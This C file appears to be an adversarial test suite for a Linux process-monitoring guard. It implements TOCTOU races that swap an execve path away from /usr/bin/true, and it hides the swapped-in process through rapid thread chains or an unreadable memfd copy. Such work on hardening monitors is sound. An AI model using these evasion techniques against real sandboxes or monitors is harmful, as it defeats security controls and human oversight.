/* What the third review found: programs that are swapped in for one that is allowed and of which a look does not get hold.
   Each is let go ahead as /usr/bin/true, while another thread changes the path. */
#include "attack.h"

static const double TOO_LONG = 1; /* seconds */
enum { PROGRAM = 110, STACKS = 64, TRIES_TAKE = 8 /* seconds */ };
static struct beat *pulse;
static char place[256], program[64];
static const char *way;

static int inherit(void) {
    pulse = mmap(0, sizeof *pulse, PROT_READ | PROT_WRITE, MAP_SHARED, BEAT, 0);
    return pulse != MAP_FAILED;
}
static void *swap_programs(void *unused) {
    for (unsigned i = 0;; i++) {
        strcpy(place, i & 1 ? program : "/usr/bin/true");
        for (volatile unsigned pause = 0; pause < i * 7 % 3000; pause++) {}
    }
    return unused;
}
static int become_what_is_there(void *unused) {
    char *arguments[] = {"mark", (char *)way, 0};
    (void)unused, syscall(SYS_execve, place, arguments, (char *[]){0});
    _exit(1);
}
/* Tries until `won` says so. */
static int swap_in(const char *as, int (*won)(void)) {
    static char stack[65536];
    int file = (int)syscall(SYS_memfd_create, "beat", 0);
    if (file < 0 || ftruncate(file, sizeof *pulse) || dup2(file, BEAT) < 0 || !inherit()) return errno;
    way = as, strcpy(place, "/usr/bin/true");
    pthread_t id;
    pthread_create(&id, 0, swap_programs, 0);
    for (double begun = now(); now() - begun < share_of(TRIES_TAKE);) {
        *pulse = (struct beat){0};
        pid_t child = clone(become_what_is_there, stack + sizeof stack, CLONE_VM | SIGCHLD, 0);
        if (child > 0) waitpid(child, 0, 0);
        if (won()) return WORKED;
    }
    return NOT_SEEN;
}

/* Its first thread ends, and the others follow each other so quickly that whoever was listed is gone. */
static char stacks[STACKS][4096] __attribute__((aligned(16)));
static volatile unsigned links;
static int next_link(void *unused) {
    pulse->last = now();
    if (pulse->last - pulse->first > 2 * TOO_LONG) syscall(SYS_exit_group, 0);
    clone(next_link, stacks[links++ % STACKS] + sizeof stacks[0],
          CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM, 0);
    syscall(SYS_exit, 0);
    return unused != 0;
}
int be_a_chain(void) {
    if (!inherit()) return 1;
    pulse->first = pulse->last = now();
    return next_link(0);
}
static int lived_long(void) { return pulse->last - pulse->first > TOO_LONG; }
static int chain(void) {
    snprintf(program, sizeof program, "/proc/%d/exe", getpid());
    return swap_in("chain", lived_long);
}

/* A memory file that may be run but not read makes a process that cannot be looked at, until it says otherwise: between a
   look and what comes of the call. */
static void *be_open(void *unused) {
    for (;;) prctl(PR_SET_DUMPABLE, 1);
    return unused;
}
int be_unread(void) {
    struct sockaddr_in to = inet(ALLOWED, 9);
    if (!inherit()) return 1;
    pthread_t id;
    pthread_create(&id, 0, be_open, 0);
    int fd = -1;
    for (double begun = now(); now() - begun < 0.02;) {
        if (fd < 0) fd = socket(AF_INET, SOCK_DGRAM, 0);
        if (fd >= 0 && !connect(fd, (void *)&to, sizeof to)) return pulse->flag = 1, 0;
    }
    return 1;
}
static int has_connected(void) { return pulse->flag; }
static int unread(void) {
    int own = open("/proc/self/exe", O_RDONLY), copy = (int)syscall(SYS_memfd_create, "unread", 0);
    static char part[65536];
    ssize_t length;
    while ((length = read(own, part, sizeof part)) > 0)
        if (write(copy, part, (size_t)length) != length) return errno;
    /* Opened for writing it could not be run (ETXTBSY). */
    snprintf(program, sizeof program, "/proc/self/fd/%d", copy);
    int again = open(program, O_RDONLY);
    if (fchmod(again, 0111) || close(copy) || dup2(again, PROGRAM) < 0) return errno;
    snprintf(program, sizeof program, "/proc/self/fd/%d", PROGRAM);
    return swap_in("unread", has_connected);
}

const struct attack review3[] = {
    {"swapped-in-whose-threads-follow-each-other", chain, ON_GUARD},
    {"swapped-in-that-cannot-be-read", unread, ON_GUARD},
    {0},
};
